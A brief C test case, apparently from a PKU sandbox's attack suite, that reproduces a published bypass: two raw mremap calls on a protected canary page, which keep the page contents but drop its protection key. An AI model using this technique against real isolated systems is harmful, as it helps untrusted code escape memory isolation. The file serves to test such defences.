/* Tries: to move a page of the host's to where the library can reach it
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020): mremap keeps the contents and loses
 *   the key
 * Observed: A canary that is gone.
 * Needs: linux */
#include "attacks/attack.h"

FOREIGN(run)
{
    kernel6(SYS_mremap, at->canary_page, 4096, 4096, 1, 0, 0);
    kernel6(SYS_mremap, at->canary_page, 4096, 8192, 1, 0, 0);
    return 0;
}
